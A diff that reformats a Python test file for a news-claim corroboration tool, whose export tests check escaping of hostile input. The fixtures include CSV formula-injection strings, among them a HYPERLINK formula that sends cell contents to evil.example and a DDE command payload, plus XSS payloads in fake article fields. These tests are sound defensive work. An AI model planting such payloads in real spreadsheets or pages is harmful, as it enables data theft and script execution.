@@ -19,8 +19,14 @@ from corroborate.extract import build_nlp
 from corroborate.records import Annotation
 from corroborate.store import Store
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 HOSTILE_MD = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -37,13 +43,29 @@ HOSTILE_MD = [
 def report(labels: list[str], sources: list[str] | None = None) -> dict[str, Any]:
     """A report in the export's JSON shape, one cluster per label."""
     return {
-        "summary": {"documents": 0, "claims": 0, "clusters": len(labels), "clusters_shown": len(labels),
-                    "documents_shown": 0},
+        "summary": {
+            "documents": 0,
+            "claims": 0,
+            "clusters": len(labels),
+            "clusters_shown": len(labels),
+            "documents_shown": 0,
+        },
         "documents": [],
         "clusters": [
-            {"id": f"c{i}", "status": "corroborated", "support": 2, "independent_support": 2, "label": label,
-             "sources": sources or ["wire"], "claims": [], "conflicts": [], "numbers": [], "number_range": [],
-             "dates": None, "review": None}
+            {
+                "id": f"c{i}",
+                "status": "corroborated",
+                "support": 2,
+                "independent_support": 2,
+                "label": label,
+                "sources": sources or ["wire"],
+                "claims": [],
+                "conflicts": [],
+                "numbers": [],
+                "number_range": [],
+                "dates": None,
+                "review": None,
+            }
             for i, label in enumerate(labels)
         ],
     }
@@ -120,13 +142,22 @@ def test_markdown_line_breaks_do_not_start_new_rows() -> None:
 
 
 HOSTILE_JSONL = [
-    {"id": "1", "source": '=HYPERLINK("http://evil.example")',
-     "text": "The minister said on Monday that 40 people were injured in the blast at the harbour in Tripoli."},
-    {"id": "2", "source": "<script>alert(1)</script> [x](javascript:alert(1))",
-     "text": "Police said on Monday that 40 people were hurt in the blast at the harbour in Tripoli."},
-    {"id": "3", "source": "@wire",
-     "text": "Officials said that 7 <img src=x onerror=alert(1)> people died in the fire at "
-             "[the depot](javascript:alert(1))."},
+    {
+        "id": "1",
+        "source": '=HYPERLINK("http://evil.example")',
+        "text": "The minister said on Monday that 40 people were injured in the blast at the harbour in Tripoli.",
+    },
+    {
+        "id": "2",
+        "source": "<script>alert(1)</script> [x](javascript:alert(1))",
+        "text": "Police said on Monday that 40 people were hurt in the blast at the harbour in Tripoli.",
+    },
+    {
+        "id": "3",
+        "source": "@wire",
+        "text": "Officials said that 7 <img src=x onerror=alert(1)> people died in the fire at "
+        "[the depot](javascript:alert(1)).",
+    },
 ]
 
 
@@ -167,7 +198,7 @@ def test_jsonl_source_field_and_article_text_are_escaped_in_html(
     hostile_export_db: Path, extra: tuple[str, ...]
 ) -> None:
     page = CliRunner().invoke(cli, ["export", "--db", str(hostile_export_db), "--format", "html", *extra]).output
-    assert "<script>alert" not in page and "<img" not in page and "javascript:alert(1)\">" not in page
+    assert "<script>alert" not in page and "<img" not in page and 'javascript:alert(1)">' not in page
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "7 &lt;img src=x onerror=alert(1)&gt;" in page
     assert page.count("<script>") == 1  # the page's own sorting script, nothing from the articles
 
